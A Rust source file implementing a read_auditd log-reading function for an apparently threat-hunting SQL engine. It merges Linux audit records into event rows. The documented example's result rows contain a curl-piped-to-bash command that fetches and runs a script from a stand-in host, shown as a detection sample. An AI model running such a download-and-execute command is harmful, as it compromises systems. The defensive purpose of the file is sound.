//! `read_auditd(path)`: files of the Linux audit system, as events.

use super::{Common, ENCODING, MAX_LINE, TextLines};
use crate::batch::{Batch, Wanted};
use crate::format::{Control, LogColumn, LogFormat, LogScan};
use crate::{Error, Piece, Result, Source};
use encoding_rs::Encoding;
use huntsql_kernels::column::{Column, Data, SqlValue};
use huntsql_kernels::interrupt::Interrupt;
use huntsql_kernels::logs::{AuditEvent, merge_audit_records};
use huntsql_kernels::options::{OptionField, Options, Setting};
use huntsql_kernels::spec::{Arg, Example, Family, Spec};
use huntsql_kernels::types::SqlType;
use std::sync::Arc;

/// The format of `read_auditd`.
pub(crate) struct ReadAuditd;

/// Options of `read_auditd`.
#[derive(Debug, Clone, Default)]
pub(crate) struct ReadAuditdOptions(Common);

impl Options for ReadAuditdOptions {
    const FIELDS: &'static [OptionField] = &[ENCODING, MAX_LINE];

    fn set(&mut self, name: &str, setting: Setting) -> std::result::Result<(), String> {
        self.0.set(name, &setting).map(drop)
    }
}

const FIELDS: &[(&str, SqlType)] = match AuditEvent::TYPE {
    SqlType::Struct(fields) => fields,
    _ => &[],
};

impl LogFormat for ReadAuditd {
    const SPEC: Spec = Spec {
        name: "read_auditd",
        family: Family::Files,
        summary: "Reads files of the Linux audit system: one row for what one system call or one login did, all its records merged.",
        details: "\
One row an event, with the columns that [`auditd_events`](logs.md#auditd_events) gives, in order of time and serial within a file. Lines that are no audit records are left out: other
programs' lines of a syslog, for one. Each file is taken as the log of one host, where the lines do not name it (`node=`); an event whose records go on in the next file, after a rotation, is two rows.
A file is held in memory while it is read.",
        args: &[Arg { name: "path", doc: super::PATH }],
        examples: &[Example {
            sql: "SELECT pid, ppid, command_line FROM read_auditd('examples/logs/audit.log') WHERE syscall = 'execve' AND uid = 998 AND comm <> 'java' ORDER BY serial LIMIT 4",
            result: "30011 | 1402 | /bin/sh -c curl -s http://stage.example.net/x.sh | bash\n30012 | 30011 | curl -s http://stage.example.net/x.sh\n30013 | 30011 | bash\n30015 | 30013 | id",
        }],
    };
    const COLUMNS: &'static [(&'static str, SqlType)] = FIELDS;
    const HAS_LINES: bool = false;
    type Options = ReadAuditdOptions;
    type Layout = ();

    fn encoding(options: &ReadAuditdOptions) -> Option<&'static Encoding> {
        options.0.encoding
    }

    fn look(_: &ReadAuditdOptions, _: &[Arc<Source>], _: &Control) -> Result<(Vec<LogColumn>, ())> {
        Ok((FIELDS.iter().map(|(name, ty)| LogColumn { name: (*name).to_owned(), ty: *ty }).collect(), ()))
    }

    fn scan(piece: &Piece, _: &Arc<()>, options: &Arc<ReadAuditdOptions>, _: &Wanted, control: &Control) -> Result<Box<dyn LogScan>> {
        Ok(Box::new(Scan { piece: piece.clone(), common: options.0, control: control.clone(), events: None }))
    }
}

struct Scan {
    piece: Piece,
    common: Common,
    control: Control,
    events: Option<std::vec::IntoIter<AuditEvent>>,
}

impl Scan {
    fn read(&self) -> Result<Vec<AuditEvent>> {
        let mut lines = TextLines::open(&self.piece, self.common, &self.control)?;
        let (mut text, mut ends) = (String::new(), Vec::new());
        while let Some((line, _)) = lines.next()? {
            // What is no record is not kept.
            if line.contains("audit(") {
                text.push_str(line);
                ends.push(text.len());
            }
        }
        let mut start = 0;
        let lines = ends.into_iter().filter_map(|end| text.get(std::mem::replace(&mut start, end)..end));
        merge_audit_records(lines, &Interrupt::from(Arc::clone(&self.control.cancel))).map_err(|_| Error::Cancelled)
    }
}

impl LogScan for Scan {
    fn fill(&mut self, batch: &mut Batch) -> Result<bool> {
        let mut events = match self.events.take() {
            Some(events) => events,
            None => self.read()?.into_iter(),
        };
        let mut made = Column::new(&AuditEvent::TYPE);
        for event in events.by_ref().take(batch.room()) {
            event.write(&mut made);
            batch.end_row(0, 0);
        }
        if let Data::Struct(columns) = made.into_parts().2 {
            batch.put(columns);
        }
        let more = !events.as_slice().is_empty();
        self.events = Some(events);
        Ok(more)
    }
}
